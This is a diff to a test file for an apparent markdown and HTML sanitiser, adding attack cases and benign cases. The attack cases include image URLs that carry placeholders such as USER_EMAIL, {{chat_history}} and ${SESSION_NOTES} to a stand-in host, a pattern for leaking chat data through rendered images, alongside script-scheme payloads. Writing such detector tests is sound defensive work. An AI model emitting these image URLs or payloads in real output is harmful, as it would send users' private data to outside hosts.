@@ -38,6 +38,11 @@ ATTACKS = [
     ("url_script_scheme", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>'),
     ("url_script_scheme", "![logo](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
     ("url_script_scheme", "[profile]: vbscript:msgbox(1)"),
+    # A placeholder in an image's path or query, in every form the rule knows (the path needs a template form).
+    ("image_url_placeholder", "![p](https://pix.example.net/p/USER_EMAIL.png)"),
+    ("image_url_placeholder", "![p](https://pix.example.net/p.png?d=user_email)"),
+    ("image_url_placeholder", "![p](https://pix.example.net/p/{{chat_history}}.png)"),
+    ("image_url_placeholder", '<img src="https://pix.example.net/p/${SESSION_NOTES}/x.gif">'),
 ]
 
 BENIGN = [
@@ -53,6 +58,11 @@ BENIGN = [
     "[API reference][api]\n\n[api]: https://api.example.com/v1/items?page={page}",
     "Video: https://video.example.com/watch?v=dQw4w9WgXcQ&t=42",
     "The doc id is https://docs.example.com/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
+    # File names with underscores in an image's path are names, not template placeholders (the placeholder
+    # pattern's SCREAMING_SNAKE_CASE alternative matched any snake_case segment under the rules' IGNORECASE).
+    "![demo](https://upload.example.org/commons/4/47/PNG_transparency_demonstration_1.png)",
+    '<img src="https://cdn.example.com/photos/2026/team_offsite_day_2.jpg" alt="offsite">',
+    "Logo for the deck: ![logo](https://img.example.org/thumb/Company_2015_logo.svg/320px-Company_2015_logo.png)",
 ]
 
 
